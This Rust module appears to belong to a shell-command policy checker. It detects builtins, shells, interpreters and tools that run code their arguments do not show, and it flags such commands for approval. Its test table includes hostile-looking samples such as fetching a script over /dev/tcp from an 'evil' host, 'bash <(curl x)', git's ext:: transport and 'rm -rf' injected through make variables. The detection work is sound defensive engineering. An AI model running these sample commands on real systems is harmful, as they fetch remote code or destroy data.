//! Commands that run code the rules cannot see (spec §12.5, `HARD-RUN-*`).
//!
//! A rule judges a command by its words. When those words are a program in
//! another language, a script on standard input, or a builtin that changes
//! what later commands mean, the words say nothing about what runs: such a
//! command is floored to `ask`, whatever rule matches it.

use crate::hardened::contract::clauses::Clause;
use crate::hardened::contract::names::{names_one_of, stem};

/// Builtins that run another command, evaluate text, or change how later
/// names resolve (`HARD-RUN-1`).
pub const CODE_BUILTINS: [&str; 19] = [
    "eval",
    "source",
    ".",
    "exec",
    "command",
    "builtin",
    "trap",
    "enable",
    "alias",
    "unalias",
    "hash",
    "fc",
    "bind",
    "complete",
    "compgen",
    "mapfile",
    "readarray",
    "let",
    "coproc",
];

/// Shells: code on standard input unless a script file is named, or a
/// command string with `-c` (`HARD-RUN-2`). From Debian 12's packages and
/// their manuals: bash (and `rbash`), dash, zsh, ksh93 (`ksh`, `ksh93`,
/// `rksh`), mksh (`lksh`), yash, fish, csh/tcsh, posh, the BSD `oksh`/`loksh`,
/// busybox's `ash`/`hush`, rc, es, and PowerShell, elvish, nushell and xonsh;
/// and, outside Debian, toybox (a multi-call binary like busybox), the Oils
/// shells (`osh`, `ysh`, `oil`), `sash`, `scsh`, `ion`, `murex`, `brush` and
/// execline's `execlineb`. A versioned or static build (`bash5.2`, `zsh5`,
/// `mksh-static`) is its shell ([`stem`]).
pub const SHELLS: &[&str] = &[
    "bash",
    "rbash",
    "sh",
    "dash",
    "zsh",
    "ksh",
    "ksh93",
    "rksh",
    "mksh",
    "lksh",
    "pdksh",
    "oksh",
    "loksh",
    "yash",
    "fish",
    "csh",
    "tcsh",
    "posh",
    "ash",
    "hush",
    "rc",
    "es",
    "busybox",
    "pwsh",
    "powershell",
    "elvish",
    "nu",
    "xonsh",
    "toybox",
    "osh",
    "ysh",
    "oil",
    "sash",
    "scsh",
    "ion",
    "murex",
    "brush",
    "execlineb",
];

/// Interpreters and the flags that take an inline program (`HARD-RUN-3`).
/// Short flags count inside a cluster (`-Bc`); long ones also with
/// `=value`; with no operand they read their program from standard input.
pub const INTERPRETERS: &[(&str, &[&str], &[char])] = &[
    ("python", &[], &['c']),
    ("pypy", &[], &['c']),
    ("node", &["--eval", "--print"], &['e', 'p']),
    ("nodejs", &["--eval", "--print"], &['e', 'p']),
    ("bun", &["--eval", "--print"], &['e', 'p']),
    ("deno", &["eval", "repl"], &[]),
    ("perl", &[], &['e', 'E', 'M']),
    ("ruby", &[], &['e']),
    ("irb", &[], &[]),
    ("php", &[], &['r', 'B', 'R', 'E', 'a']),
    ("lua", &[], &['e']),
    ("luajit", &[], &['e']),
    ("Rscript", &["--expr"], &['e']),
    ("R", &[], &['e']),
    ("osascript", &[], &['e']),
    ("tclsh", &[], &[]),
    ("wish", &[], &[]),
    ("expect", &[], &['c']),
    ("julia", &["--eval", "--print"], &['e', 'E']),
    ("guile", &[], &['c', 'e']),
    ("racket", &["--eval", "--require-script"], &['e']),
    ("ghci", &[], &['e']),
    ("runghc", &[], &[]),
    ("elixir", &["--eval"], &['e']),
    ("erl", &["-eval"], &[]),
    ("groovy", &[], &['e']),
    ("jshell", &[], &[]),
    ("gdb", &["-ex", "-eval-command", "--eval-command"], &['x']),
    // Found missing by a red-team pass over interpreters' manuals (issue 26,
    // class 8): each takes an inline program with these flags, or reads one
    // from standard input with no script named.
    ("ipython", &[], &['c']),
    ("jython", &[], &['c']),
    ("micropython", &[], &['c']),
    ("tsx", &["--eval", "--print"], &['e', 'p']),
    ("ts-node", &["--eval", "--print"], &['e', 'p']),
    ("qjs", &["--eval"], &['e']),
    ("d8", &[], &['e']),
    ("rhino", &[], &['e']),
    ("jjs", &[], &[]),
    ("jruby", &[], &['e']),
    ("truffleruby", &[], &['e']),
    ("mruby", &[], &['e']),
    ("hhvm", &[], &[]),
    ("jimsh", &[], &[]),
    ("bb", &[], &['e']),
    ("clojure", &[], &['e']),
    ("clj", &[], &['e']),
    ("janet", &[], &['e']),
    ("fennel", &["--eval"], &['e']),
    ("gforth", &["--evaluate"], &['e']),
    ("pike", &[], &['e']),
    (
        "csi",
        &["-eval", "-print", "-pretty-print"],
        &['e', 'p', 'P'],
    ),
    ("gsi", &[], &['e']),
    ("chez", &[], &[]),
    ("scheme", &["--eval"], &[]),
    ("petite", &[], &[]),
    ("mit-scheme", &["--eval"], &[]),
    ("clisp", &[], &['x']),
    ("ecl", &["-eval"], &[]),
    ("sbcl", &["--eval"], &[]),
    ("ccl", &["--eval"], &['e']),
    ("scala", &[], &['e']),
    ("kotlin", &[], &['e']),
    ("kotlinc", &[], &['e']),
    ("ocaml", &[], &[]),
    ("swift", &[], &['e']),
    ("octave", &["--eval"], &[]),
    ("crystal", &["eval"], &[]),
    ("tcc", &["-run"], &[]),
    ("m4", &[], &[]),
    ("dc", &["--expression"], &['e']),
];

/// Whether a script operand is not a file bash or an interpreter reads from
/// the tree (`HARD-RUN-2`): standard input, a descriptor, a socket, a
/// process substitution, or a word only run time knows.
#[must_use]
pub fn is_not_a_file(script: &str) -> bool {
    let special = script == "-"
        || script == "/dev/stdin"
        || script.starts_with("/dev/fd/")
        || script.starts_with("/dev/tcp/")
        || script.starts_with("/dev/udp/")
        || (script.starts_with("/proc/") && script.contains("/fd/"));
    special || script.starts_with("<(") || script.contains(['$', '`', '*', '?', '[', '{'])
}

/// Programs whose every argument list is a program (`HARD-RUN-3`): awk's
/// `system()`, sed's `e` and `w` commands, sqlite3's `.shell`; and those
/// whose commands, from their arguments or standard input, include one that
/// runs a shell command: `ed`/`ex` (`!cmd`), miller's and gnuplot's
/// `system`, duckdb's `.shell`, the database clients' `\!` and `system`,
/// and the file-transfer clients' `!cmd`.
pub const PROGRAM_TAKERS: &[&str] = &[
    "awk",
    "gawk",
    "mawk",
    "nawk",
    "original-awk",
    "goawk",
    "busybox-awk",
    "sed",
    "gsed",
    "sqlite3",
    "duckdb",
    "mlr",
    "gnuplot",
    "ed",
    "ex",
    "mysql",
    "mariadb",
    "psql",
    "lftp",
    "ftp",
    "sftp",
    "smbclient",
];

/// The clause that floors a command named `name` (dequoted basename) with
/// arguments `args` (dequoted where literal), if any; with no word known to
/// be literal, so no sed or awk program is admitted (HARD-RUN-5).
#[must_use]
pub fn runs_code<S: AsRef<str>>(name: &str, args: &[S]) -> Option<Clause> {
    runs_code_known(name, args, &[])
}

/// [`runs_code`], with `literal[i]` true when argument `i` is literal text
/// (not computed): sed and awk programs of the admitted subsets then run no
/// command and write no file (HARD-RUN-5).
#[must_use]
pub fn runs_code_known<S: AsRef<str>>(name: &str, args: &[S], literal: &[bool]) -> Option<Clause> {
    let args: Vec<&str> = args.iter().map(AsRef::as_ref).collect();
    let filters = match name {
        "sed" | "gsed" => crate::hardened::programs::sed::admitted(&args, literal).is_ok(),
        "awk" | "gawk" | "mawk" | "nawk" => {
            crate::hardened::programs::awk::admitted(&args, literal).is_ok()
        }
        _ => false,
    };
    if filters {
        return None;
    }
    if CODE_BUILTINS.contains(&name) || (name == "printf" && args.contains(&"-v")) {
        return Some(Clause::RunBuiltin);
    }
    if prints_and_exits(name, &args) {
        return None;
    }
    if names_one_of(name, SHELLS) {
        // A `-c` cluster or `--command` runs a string (HARD-RUN-2): bash, sh,
        // dash, zsh and ksh are POL-FLOOR-3's already, the others are not.
        // Windows PowerShell runs its first operand as a command by default.
        let default_command = stem(name) == "powershell";
        let string = default_command
            || args.iter().take_while(|a| **a != "--").any(|a| {
                (a.starts_with('-') && !a.starts_with("--") && a.contains('c'))
                    || *a == "--command"
                    || a.starts_with("--command=")
                    || a.eq_ignore_ascii_case("-command")
            });
        return (string || reads_stdin(&args)).then_some(Clause::RunShellStdin);
    }
    if names_one_of(name, PROGRAM_TAKERS) {
        return Some(Clause::RunInline);
    }
    // HARD-RUN-7: a setting whose key is not inert (`git -c`, `apt-get
    // -o`, `python3 -m`), read from the contract's settings table.
    if crate::hardened::contract::settings::live_setting(settings_name(name), &args).is_some() {
        return Some(Clause::RunSetting);
    }
    if name == "git" && git_ext_transport(&args) {
        return Some(Clause::RunInline);
    }
    if matches!(stem(name), "make" | "gmake" | "bmake") && make_runs_unseen(&args) {
        return Some(Clause::RunInline);
    }
    if crate::hardened::programs::runners::option_runs_command(name, &args) {
        return Some(Clause::RunOption);
    }
    let family = interpreter_family(name)?;
    let (_, long, short) = INTERPRETERS.iter().find(|(n, _, _)| *n == family)?;
    let inline = args.iter().any(|arg| {
        long.iter()
            .any(|l| arg == l || arg.strip_prefix(l).is_some_and(|r| r.starts_with('=')))
            || (arg.starts_with('-')
                && !arg.starts_with("--")
                && arg.chars().skip(1).any(|c| short.contains(&c)))
    });
    (inline || reads_stdin(&args)).then_some(Clause::RunInline)
}

/// Interpreters and shells whose one argument prints a version or help
/// text and exits, reading no program (each checked with a program on its
/// standard input that would have made a file: none did). Anything more
/// on the line, or another flag, is read as before.
const PRINTS_AND_EXITS: &[(&str, &[&str])] = &[
    ("python", &["--version", "-V", "--help", "-h"]),
    ("node", &["--version", "-v", "--help", "-h"]),
    ("nodejs", &["--version", "-v", "--help", "-h"]),
    ("perl", &["--version", "-v", "--help", "-h"]),
    ("bash", &["--version", "--help"]),
];

/// Whether `name args` is only a version or help query ([`PRINTS_AND_EXITS`]).
fn prints_and_exits(name: &str, args: &[&str]) -> bool {
    let [only] = args else {
        return false;
    };
    let stem = stem(name);
    PRINTS_AND_EXITS
        .iter()
        .any(|(n, flags)| (*n == name || *n == stem) && flags.contains(only))
}

/// The name the settings table knows a program by: an interpreter's
/// family (`python3.11` -> `python`), else the name.
fn settings_name(name: &str) -> &str {
    interpreter_family(name).unwrap_or(name)
}

/// Whether `name` is a program some table of §12.5 reads the words of
/// (`HARD-VALUE-7`): then a word whose value only run time knows may be
/// an option, a setting or a command those tables would have read.
#[must_use]
pub fn is_modelled(name: &str) -> bool {
    let name = name
        .strip_prefix('g')
        .filter(|gnu| crate::hardened::contract::program_tables::G_PREFIXED.contains(gnu))
        .unwrap_or(name);
    let stem = stem(name);
    let named = |n: &str| n == name || n == stem;
    crate::hardened::contract::program_tables::PROGRAMS
        .iter()
        .any(|(n, _)| named(n))
        || crate::hardened::contract::runner_tables::SUBCOMMAND_RUNNERS
            .iter()
            .any(|(n, _)| named(n))
        || crate::hardened::contract::runner_tables::COMMAND_OPTIONS
            .iter()
            .any(|(n, _, _)| named(n))
        || crate::hardened::contract::settings::has_settings(settings_name(name))
        || crate::hardened::contract::writes::PROGRAM_WRITES
            .iter()
            .any(|row| row.programs.iter().any(|n| named(n)))
        || interpreter_family(name).is_some()
        || names_one_of(name, SHELLS)
        || names_one_of(name, PROGRAM_TAKERS)
        || MODELLED_ELSEWHERE.iter().any(|n| named(n))
}

/// Whether a word only run time knows stands where the modelled program
/// `name` may read an option, a setting, a subcommand or a command
/// (`HARD-VALUE-7`): before a literal `--`, a word whose value is not
/// exactly known and not known to start with a path (`src/…`, `./…`).
#[must_use]
pub fn reads_unknown_word(name: &str, args: &crate::hardened::words::values::ReadArgs) -> bool {
    if !is_modelled(name) {
        return false;
    }
    for ((text, known), word) in args.texts.iter().zip(&args.known).zip(&args.words) {
        if *known && text == "--" {
            return false;
        }
        if !known && !word.is_path_shaped() {
            return true;
        }
    }
    false
}

/// Programs read by code of this module rather than a table row: git's
/// subcommand and transport reading, make's makefile and variables,
/// find's `-exec`.
const MODELLED_ELSEWHERE: &[&str] = &["git", "make", "gmake", "bmake", "find"];

/// `python3.11` -> `python`, `nodejs` stays; `None` for anything else.
fn interpreter_family(name: &str) -> Option<&'static str> {
    let stem = stem(name);
    INTERPRETERS
        .iter()
        .map(|(n, _, _)| *n)
        .find(|n| *n == name || *n == stem)
}

/// True when no argument names a script file: no operand, `-`, `-s`, `-i`,
/// or a first operand that is not a file ([`is_not_a_file`]).
fn reads_stdin(args: &[&str]) -> bool {
    let mut skip_next = false;
    for (index, arg) in args.iter().enumerate() {
        if skip_next {
            skip_next = false;
            continue;
        }
        match *arg {
            "-" | "-s" | "-i" => return true,
            "-o" | "+o" | "-O" | "+O" | "--rcfile" | "--init-file" => skip_next = true,
            // After `--` the next argument is the script, if there is one.
            "--" => return args.get(index + 1).is_none_or(|s| is_not_a_file(s)),
            _ if arg.starts_with("<(") => return true,
            _ if arg.starts_with('-') || arg.starts_with('+') => {}
            _ => return is_not_a_file(arg),
        }
    }
    true
}

/// `make` reading a makefile that is not a file (`-f -`, `--file=/dev/stdin`),
/// or given a variable on its command line (`make CC='rm -rf x'`): a
/// recipe runs it, and a command-line value overrides the makefile's.
fn make_runs_unseen(args: &[&str]) -> bool {
    let mut makefile_next = false;
    for arg in args.iter().take_while(|a| **a != "--") {
        if makefile_next {
            if is_not_a_file(arg) {
                return true;
            }
            makefile_next = false;
            continue;
        }
        // GNU getopt takes any unambiguous abbreviation (`--fi=-`).
        let file_option = |name: &str| {
            !name.is_empty() && ("file".starts_with(name) || "makefile".starts_with(name))
        };
        let long = arg
            .strip_prefix("--")
            .and_then(|l| l.split_once('='))
            .filter(|(name, _)| file_option(name))
            .map(|(_, value)| value);
        if let Some(value) = long.or_else(|| arg.strip_prefix("-f").filter(|v| !v.is_empty())) {
            if is_not_a_file(value) {
                return true;
            }
        } else if *arg == "-f" || arg.strip_prefix("--").is_some_and(file_option) {
            makefile_next = true;
        } else if !arg.starts_with('-') && arg.contains('=') {
            return true;
        }
    }
    makefile_next
}

/// A git URL of the `ext::` transport, which runs its text as a command
/// (blocked by git's default `protocol.ext.allow`, which a config the
/// profile does not see can lift).
fn git_ext_transport(args: &[&str]) -> bool {
    args.iter().any(|a| a.contains("ext::"))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// HARD-RUN-1..3: which commands run code their words do not show.
    #[test]
    fn hard_run_table() {
        let rows: &[(&str, &[&str], Option<Clause>)] = &[
            ("eval", &["rm x"], Some(Clause::RunBuiltin)),
            (".", &["x.sh"], Some(Clause::RunBuiltin)),
            ("command", &["rm", "x"], Some(Clause::RunBuiltin)),
            ("bash", &[], Some(Clause::RunShellStdin)),
            ("bash", &["-s"], Some(Clause::RunShellStdin)),
            ("bash", &["-o", "pipefail"], Some(Clause::RunShellStdin)),
            ("bash", &["scripts/test.sh"], None),
            ("bash", &["--"], Some(Clause::RunShellStdin)),
            ("bash", &["--", "x.sh"], None),
            ("python3", &["-c", "x"], Some(Clause::RunInline)),
            ("python3.11", &["-Bc", "x"], Some(Clause::RunInline)),
            ("python3", &["manage.py", "test"], None),
            ("python3", &[], Some(Clause::RunInline)),
            ("node", &["-e", "x"], Some(Clause::RunInline)),
            ("node", &["build.js"], None),
            ("perl", &["-ne", "x"], Some(Clause::RunInline)),
            ("awk", &["{print}"], Some(Clause::RunInline)),
            (
                "git",
                &["-c", "core.pager=x", "log"],
                Some(Clause::RunSetting),
            ),
            ("git", &["log", "-c"], None),
            ("bash", &["/dev/stdin"], Some(Clause::RunShellStdin)),
            ("sh", &["/proc/self/fd/0"], Some(Clause::RunShellStdin)),
            ("bash", &["/dev/fd/3"], Some(Clause::RunShellStdin)),
            ("bash", &["<(curl x)"], Some(Clause::RunShellStdin)),
            ("bash", &["/dev/tcp/evil/80"], Some(Clause::RunShellStdin)),
            ("bash", &["--", "/dev/stdin"], Some(Clause::RunShellStdin)),
            ("bash", &["$f"], Some(Clause::RunShellStdin)),
            ("mksh", &["-c", "rm x"], Some(Clause::RunShellStdin)),
            ("fish", &["--command=rm x"], Some(Clause::RunShellStdin)),
            ("rbash", &[], Some(Clause::RunShellStdin)),
            ("ash", &["x.sh"], None),
            ("python3", &["/dev/stdin"], Some(Clause::RunInline)),
            ("node", &["--eval=x"], Some(Clause::RunInline)),
            ("tclsh", &[], Some(Clause::RunInline)),
            ("tclsh8.6", &["x.tcl"], None),
            ("expect", &["-c", "spawn rm"], Some(Clause::RunInline)),
            ("julia", &["-e", "run(`rm x`)"], Some(Clause::RunInline)),
            ("guile-3.0", &["-c", "x"], Some(Clause::RunInline)),
            ("php", &["-r", "x"], Some(Clause::RunInline)),
            ("perl", &["-Mstrict;print", "x.pl"], Some(Clause::RunInline)),
            ("sqlite3", &["db", ".shell rm x"], Some(Clause::RunInline)),
            ("ls", &["-la"], None),
            // Issue 26, class 8: versioned and static builds, shells and
            // interpreters found missing, programs whose commands shell out.
            ("bash5.2", &["-c", "rm x"], Some(Clause::RunShellStdin)),
            ("zsh5", &["-c", "rm x"], Some(Clause::RunShellStdin)),
            ("mksh-static", &[], Some(Clause::RunShellStdin)),
            ("osh", &["-c", "rm x"], Some(Clause::RunShellStdin)),
            ("toybox", &["sh"], None),
            ("toybox", &[], Some(Clause::RunShellStdin)),
            ("python3-dbg", &["-c", "x"], Some(Clause::RunInline)),
            ("php-cgi", &["-r", "x"], Some(Clause::RunInline)),
            ("bb", &["-e", "x"], Some(Clause::RunInline)),
            ("sbcl", &["--script"], Some(Clause::RunInline)),
            ("sbcl", &["--script", "x.lisp"], None),
            ("m4", &[], Some(Clause::RunInline)),
            ("m4", &["defs.m4"], None),
            ("dc", &["-e", "!rm x"], Some(Clause::RunInline)),
            ("ed", &["-s", "notes.txt"], Some(Clause::RunInline)),
            ("psql", &["-c", "select 1"], Some(Clause::RunInline)),
            (
                "mlr",
                &["-n", "put", "end{system(\"rm x\")}"],
                Some(Clause::RunInline),
            ),
            (
                "git",
                &["fetch", "ext::sh -c rm% x"],
                Some(Clause::RunInline),
            ),
            ("git", &["fetch", "origin"], None),
            ("make", &["-f", "-"], Some(Clause::RunInline)),
            ("make", &["--file=/dev/stdin"], Some(Clause::RunInline)),
            ("make", &["CC=rm -rf x"], Some(Clause::RunInline)),
            ("make", &["-j4", "test"], None),
            (
                "powershell.exe",
                &["Remove-Item x"],
                Some(Clause::RunShellStdin),
            ),
            ("pwsh.exe", &["-c", "rm"], Some(Clause::RunShellStdin)),
            ("pwsh", &["build.ps1"], None),
            ("python3", &["--version"], None),
            ("node", &["-v"], None),
            ("bash", &["--version"], None),
            ("python3", &["-v"], Some(Clause::RunInline)),
            (
                "python3",
                &["--version", "-c", "x"],
                Some(Clause::RunInline),
            ),
            ("sh", &["--version"], Some(Clause::RunShellStdin)),
            ("make", &["-f", "build.mk", "all"], None),
        ];
        for (name, args, want) in rows {
            assert_eq!(runs_code(name, args), *want, "{name} {args:?}");
        }
    }
}
